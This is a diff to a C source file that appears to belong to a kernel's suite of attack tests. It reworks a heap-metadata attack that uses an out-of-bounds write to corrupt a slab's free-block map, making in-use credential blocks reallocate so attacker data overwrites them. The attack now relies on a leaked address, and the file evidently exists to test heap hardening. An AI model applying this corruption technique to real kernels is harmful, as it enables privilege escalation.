@@ -1,16 +1,15 @@
 /* SPDX-License-Identifier: BSD-3-Clause */
 /*
- * The heap's own map of free blocks: a write before the start of an object reaches it, and makes blocks free that are
- * in use. Messages of the attacker's are then put over credentials.
+ * The heap's own map of free blocks: a write before the start of an object reaches it, at the start of the page, and
+ * makes blocks free that are in use. Messages of the attacker's are then put over credentials.
  */
 #include "attacks.h"
 
 #include <kernel/heap.h>
 
 #define SIZE 496
-#define FIRST_BLOCK 64
 #define MAPS 24 /* kernel/mm/heap_slab.c: here or in the next word a slab has its map of free blocks */
-#define USERS 7
+#define BLOCKS 8
 
 struct user {
 	uint64_t uid;
@@ -58,32 +57,46 @@ static bool benign(const struct attack *attack)
 	return right;
 }
 
-static void run(const struct attack *attack)
+/* In the object's slab: users take all but one of its free blocks, and are marked free; then a message takes one. */
+static uint64_t overlap(uint64_t *slots)
 {
-	struct user *users[USERS];
-	uint64_t *slots, found = 0;
-	long map;
+	long map = MAPS / 8 - (long)((uintptr_t)slots % PAGE_SIZE / sizeof(uint64_t));
+	struct user *users[BLOCKS];
+	uint64_t before, found = 0;
+	int count;
 
-	do {
-		slots = heap_zalloc(SIZE);
-		if (!slots)
-			attack_failed(attack, "no memory");
-	} while ((uintptr_t)slots % PAGE_SIZE != FIRST_BLOCK);
-	for (int i = 0; i < USERS - 1; i++)
-		users[i] = log_in(1000);
-	/* One block is left, so the map is not zero. */
-	map = (MAPS - FIRST_BLOCK) / 8;
+	/* Of the two words the map is the one that is not zero, unless the slab is full. */
 	if (!get_slot(slots, map))
 		map++;
-	attack_primitive(attack);
-	set_slot(slots, map, 0xfe);
-	for (int i = 0; i < 2 * USERS; i++)
+	before = get_slot(slots, map);
+	count = min(__builtin_popcountll(before) - 1, BLOCKS);
+	for (int i = 0; i < count; i++)
+		users[i] = log_in(1000);
+	if (count > 0) {
+		set_slot(slots, map, before & ~get_slot(slots, map));
 		if (!heap_zalloc(SIZE))
-			break;
-	for (int i = 0; i < USERS - 1 && !found; i++)
+			return 0;
+	}
+	for (int i = 0; i < count && !found; i++)
 		found = users[i] ? read_secret(users[i]) : 0;
+	return found;
+}
+
+static void run(const struct attack *attack)
+{
+	uint64_t found = 0;
+
+	attack_primitive(attack);
+	for (int tries = 0; tries < BLOCKS && !found; tries++) {
+		struct attack_leaky object = { .pointer = heap_zalloc(SIZE) };
+		uintptr_t at = attack_leaky_read(&object, ATTACK_LEAK);
+
+		if (!at)
+			attack_failed(attack, "no memory");
+		found = overlap((uint64_t *)at);
+	}
 	attack_won(found);
 }
 
-ATTACK(heap_overlap, .family = "heap metadata", .primitive = RELATIVE_WRITE, .knowledge = BLIND, .stopped_by = "heap",
-       .about = "blocks in use are marked free, and given again", .run = run, .benign = benign);
+ATTACK(heap_overlap, .family = "heap metadata", .primitive = RELATIVE_WRITE, .knowledge = LAYOUT_LEAKED,
+       .stopped_by = "heap", .about = "blocks in use are marked free, and given again", .run = run, .benign = benign);
